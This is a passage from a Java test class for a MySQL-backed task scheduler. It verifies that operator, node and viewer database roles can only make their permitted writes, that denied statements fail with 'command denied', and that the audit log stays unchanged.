    void theOperatorCannotMoveATaskNorTheLeadersEpoch(String sql) throws SQLException {
        Object key = sql.contains("scheduler_epoch") ? NAMESPACE : task.id();
        assertRefused(operator, sql, key);
    }

    @Test
    void theOperatorWritesTheColumnsItNeeds() throws SQLException {
        assertThat(update(operator, "UPDATE task SET description = description, enabled = enabled WHERE id = ?",
                task.id())).isOne();
        assertThat(update(operator, "UPDATE task_run SET cancel_requested = cancel_requested WHERE id = ?", run.id()))
                .isOne();
    }

    @Test
    void anOperatorsChangeRecordsTheMissedFiresOfTheScheduleItEndsAndWithdrawsThoseAhead() {
        Instant now = Instant.now();
        MysqlTaskStore tasks = new MysqlTaskStore(operator, Clock.systemUTC());
        Task missed = new MysqlTaskStore(admin, Clock.offset(Clock.systemUTC(), Duration.ofMinutes(-3)))
                .create(TaskFixtures.shell(NAMESPACE, "missed").cron("* * * * *").build(), "admin");
        Run ahead = new MysqlRunStore(admin, Clock.systemUTC()).insertOrGetCronFire(missed.id(),
                now.plus(Duration.ofMinutes(10)).truncatedTo(java.time.temporal.ChronoUnit.MINUTES), 1);

        tasks.update(tasks.get(missed.id()).orElseThrow().toBuilder().cron("0 0 1 1 *").build(), "operator");

        List<Run> runs = new MysqlRunStore(operator, Clock.systemUTC()).list(RunFilter.all(NAMESPACE)
                .forTask(missed.id()), PageRequest.first(100)).items();
        assertThat(runs).filteredOn(r -> r.scheduledAt().isBefore(now)).hasSizeBetween(2, 4);
        assertThat(runs).filteredOn(r -> r.id() == ahead.id()).singleElement()
                .satisfies(r -> assertThat(r.status()).isEqualTo(RunStatus.SKIPPED));
    }

    /** Operators keep the calendars and bind tasks to them; the node and viewers only read them. */
    @Test
    void operatorsKeepTheCalendarsAndTheNodeOnlyReadsThem() {
        MysqlCalendarStore operators = new MysqlCalendarStore(operator, Clock.systemUTC());
        operators.importDays(NAMESPACE, new io.redcron.calendar.CalendarChange("roles-cn", "China", null, null),
                List.of(io.redcron.calendar.CalendarDay.holiday(java.time.LocalDate.parse("2026-10-01"), "National Day"),
                        io.redcron.calendar.CalendarDay.workday(java.time.LocalDate.parse("2026-10-10"), "make-up")),
                false, "operator");
        operators.importDays(NAMESPACE, io.redcron.calendar.CalendarChange.named("roles-cn"), List.of(), true, "operator");
        operators.change(NAMESPACE, new io.redcron.calendar.CalendarChange("roles-cn", "China (changed)", null, null),
                "operator");
        io.redcron.calendar.Blackout freeze = operators.addBlackout(NAMESPACE, "roles-cn",
                io.redcron.calendar.Blackout.repeating("freeze", ZoneOffset.UTC, "0 18 * * 5", Duration.ofHours(62)),
                "operator");
        operators.bind(NAMESPACE, task.id(), "roles-cn", io.redcron.calendar.CalendarMode.BUSINESS_DAYS, "operator");
        operators.bind(NAMESPACE, task.id(), "roles-cn", io.redcron.calendar.CalendarMode.SKIP_HOLIDAYS, "operator");

        MysqlCalendarStore nodes = new MysqlCalendarStore(node, Clock.systemUTC());
        assertThat(nodes.calendar(NAMESPACE, "roles-cn")).hasValueSatisfying(calendar ->
                assertThat(calendar.blackouts()).containsExactly(freeze));
        assertThat(nodes.bindings(NAMESPACE)).containsKey(task.id());
        assertThat(new MysqlCalendarStore(viewer, Clock.systemUTC()).calendars(NAMESPACE)).isNotEmpty();
        assertRefused(node, "DELETE FROM task_calendar WHERE task_id = ?", task.id());
        assertRefused(node, "INSERT INTO calendar_day (calendar_id, day, kind, name) VALUES (?, '2026-10-02', 'HOLIDAY',"
                + " 'node')", 1);
        assertRefused(node, "UPDATE calendar SET weekend = '' WHERE name = ?", "roles-cn");
        assertRefused(viewer, "DELETE FROM calendar_blackout WHERE name = ?", "freeze");
        assertRefused(operator, "UPDATE calendar SET namespace = 'elsewhere' WHERE name = ?", "roles-cn");

        assertThat(operators.removeBlackout(NAMESPACE, "roles-cn", freeze.id(), "operator")).isTrue();
        assertThat(operators.unbind(NAMESPACE, task.id(), "operator")).isTrue();
        operators.delete(NAMESPACE, "roles-cn", "operator");
        assertThat(operators.calendar(NAMESPACE, "roles-cn")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "UPDATE task SET description = ? WHERE id > 0",
        "INSERT INTO task_label (task_id, label_key, label_value) SELECT id, 'viewer', ? FROM task",
        "DELETE FROM task_label WHERE label_value <> ?",
        "UPDATE task_run SET error = ? WHERE id > 0",
        "INSERT INTO scheduler_epoch (namespace, epoch, leader, updated_at) VALUES (?, 1, 'viewer', UTC_TIMESTAMP(3))",
        "INSERT INTO audit_log (at, actor, action, subject, namespace) VALUES (UTC_TIMESTAMP(3), ?, 'x', 'x', 'roles')",
        "DELETE FROM audit_log WHERE actor <> ?",
        "CALL audit_append(?, 'task.update', 'task:1', 'roles', NULL, NULL)",
        "CALL audit_purge(?, UTC_TIMESTAMP(3), 10)",
    })
    void theViewerCanChangeNothing(String sql) throws SQLException {
        long entries = auditCount();
        assertRefused(viewer, sql, "viewer");
        assertThat(auditCount()).isEqualTo(entries);
    }

    private static void assertRefused(HikariDataSource user, String sql, Object... values) {
        assertThatThrownBy(() -> update(user, sql, values)).isInstanceOf(SQLException.class)
                .hasMessageContaining("command denied");
    }

    private static void assertReadRefused(HikariDataSource user, String sql, Object... values) {
        assertThatThrownBy(() -> one(user, sql, values)).isInstanceOf(SQLException.class)
                .hasMessageContaining("command denied");
    }

    private static int update(HikariDataSource user, String sql, Object... values) throws SQLException {
        try (Connection connection = user.getConnection(); PreparedStatement statement = connection.prepareStatement(sql)) {
            Jdbc.bind(statement, values);
            return statement.executeUpdate();
        }
    }

    private static int update(Connection connection, String sql, Object... values) throws SQLException {
        try (PreparedStatement statement = connection.prepareStatement(sql)) {
            Jdbc.bind(statement, values);
            return statement.executeUpdate();
        }
    }

    private static String one(Connection connection, String sql, Object... values) throws SQLException {
        try (PreparedStatement statement = connection.prepareStatement(sql)) {
            Jdbc.bind(statement, values);
            try (ResultSet row = statement.executeQuery()) {
                return row.next() ? row.getString(1) : null;
            }
        }
    }

    private static String one(HikariDataSource user, String sql, Object... values) throws SQLException {
        try (Connection connection = user.getConnection(); PreparedStatement statement = connection.prepareStatement(sql)) {
            Jdbc.bind(statement, values);
            try (ResultSet row = statement.executeQuery()) {
                return row.next() ? row.getString(1) : null;
            }
        }
    }

    private static long auditCount() throws SQLException {
        return Long.parseLong(one(admin, "SELECT COUNT(*) FROM audit_log"));
    }

    private static Instant databaseNow() throws SQLException {
        String now = one(admin, "SELECT CAST(UTC_TIMESTAMP(3) AS CHAR)");
        return LocalDateTime.parse(now.replace(' ', 'T')).toInstant(ZoneOffset.UTC);
    }
}
